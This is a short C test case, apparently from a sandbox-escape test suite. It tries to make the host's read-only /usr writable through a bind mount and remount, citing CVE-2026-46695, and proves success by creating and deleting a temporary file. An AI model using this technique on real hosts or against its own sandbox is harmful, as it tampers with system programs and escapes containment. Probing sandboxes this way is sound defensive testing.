/* The host's programs, bound and mounted anew so that they can be written. */
#include "../attack.h"

#include <fcntl.h>
#include <sys/mount.h>

#include "own_mounts.h"

ATTACK(FILES, "root", .gain = "a read-only place that is read-only in one mount only",
       .source = "CVE-2026-46695", .works = AS_ROOT)
{
	int fd;

	if (own_mounts() < 0 || mount("/usr", "/usr", NULL, MS_BIND, NULL) < 0 ||
	    mount(NULL, "/usr", NULL, MS_REMOUNT | MS_BIND, NULL) < 0)
		return -1;
	fd = open("/usr/pale-attack", O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
	if (fd >= 0)
		unlink("/usr/pale-attack");
	return fd;
}
